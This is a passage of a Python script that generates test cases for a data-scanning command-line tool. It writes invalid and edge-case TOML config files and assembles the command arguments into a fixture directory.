    _write(d, "bad.toml", "this is = = not toml\n"); case("config_invalid", "error", "people.csv", "--config", "bad.toml")
    _write(d, "wrong_types.toml", "qi = 5\nthresholds = [1, 2]\n"); case("config_wrong_types", "error", "people.csv", "--config", "wrong_types.toml")
    _write(d, "limits.toml", "[limits]\nline_bytes = 40\n"); case("config_limits", "error", "people.csv", "--config", "limits.toml")


BUILDERS = (csv_cases, json_cases, ndjson_cases, geojson_cases, parquet_cases, xlsx_cases, datapackage_cases, command_cases)


def build(directory: Path) -> list[Case]:
    """Write every case into `directory`; the commands run with it as working directory."""
    CASES.clear()
    directory.mkdir(parents=True, exist_ok=True)
    for builder in BUILDERS:
        builder(directory)
    commands = {"join", "catalogue", "rules"}
    for item in CASES:
        if item.args[0] not in commands:
            item.args = ["scan", *item.args]
        item.args += ["--format", "json"] if item.args[0] != "catalogue" or item.args[1] == "check" else []
    return list(CASES)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    print(f"{len(build(target))} cases written to {target}")
